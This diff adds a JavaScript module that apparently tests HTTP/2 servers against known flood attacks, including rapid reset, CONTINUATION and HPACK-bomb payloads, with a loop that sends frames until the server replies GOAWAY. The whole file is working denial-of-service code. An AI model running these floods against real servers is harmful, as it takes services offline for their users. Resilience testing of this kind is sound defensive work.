@@ -1,0 +1,43 @@
+/*
+ * floods - what an attacker sends over one connection of HTTP/2, by name
+ *
+ * FLOODS[name] = [make, first]: make(path)(i) is the i-th piece; first(path) goes before all of them.
+ * `path` should be one whose answer takes long.
+ */
+import {
+	block, data, END_HEADERS, END_STREAM, frame, GET, H2Connection, headers, ping, POST, reset, settings, TYPE, windowUpdate,
+} from './h2raw.mjs';
+
+const id = (i) => 2 * i + 1;
+const unending = (path) => [headers(1, POST(path), END_HEADERS)];
+const unfinished = (path) => [headers(1, GET(path), END_STREAM)];
+const bomb = Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, 0x81, 0x17]), Buffer.alloc(3072, 'b'), Buffer.alloc(12_000, 0xbe)]);
+
+export const FLOODS = {
+	'rapid reset (CVE-2023-44487)': [(path) => (i) => Buffer.concat([headers(id(i), GET(path)), reset(id(i))])],
+	'resets that the server is made to send (CVE-2025-8671)': [(path) => (i) =>
+		Buffer.concat([headers(id(i), GET(path)), windowUpdate(id(i), 0x7fffffff)])],
+	'requests that are no requests': [(path) => (i) => headers(id(i), [...GET(path), ['Upper', 'x']])],
+	'PING': [() => () => ping()],
+	'SETTINGS': [() => () => settings()],
+	'PRIORITY': [() => (i) => frame(TYPE.PRIORITY, 0, id(i), Buffer.from([0, 0, 0, 0, 1]))],
+	'WINDOW_UPDATE': [() => () => windowUpdate(0, 1)],
+	'empty DATA': [() => () => data(1, ''), unending],
+	'DATA of padding alone': [() => () => frame(TYPE.DATA, 8, 1, Buffer.from([3, 0, 0, 0])), unending],
+	'CONTINUATION (CVE-2024-27316)': [() => () => frame(TYPE.CONTINUATION, 0, 1, block([['x', 'y']])), unfinished],
+	'empty CONTINUATION': [() => () => frame(TYPE.CONTINUATION, 0, 1), unfinished],
+	'a bomb in the HPACK table': [(path) => (i) =>
+		frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id(i), Buffer.concat([block(GET(path)), bomb]))],
+};
+
+/* Sends until the server has had enough; the code of its GOAWAY. */
+export async function flood(url, make, { first = [], options = [], most = 40_000 } = {}) {
+	const c = await H2Connection.open(url, options);
+	c.send(...first);
+	await c.frame(TYPE.SETTINGS);
+	for (let i = 0; i < most && !c.raw.ended && !c.find(TYPE.GOAWAY); i += 100) {
+		c.send(...Array.from({ length: 100 }, (_, k) => make(i + k)));
+		await new Promise(setImmediate);
+	}
+	return await c.goaway();
+}
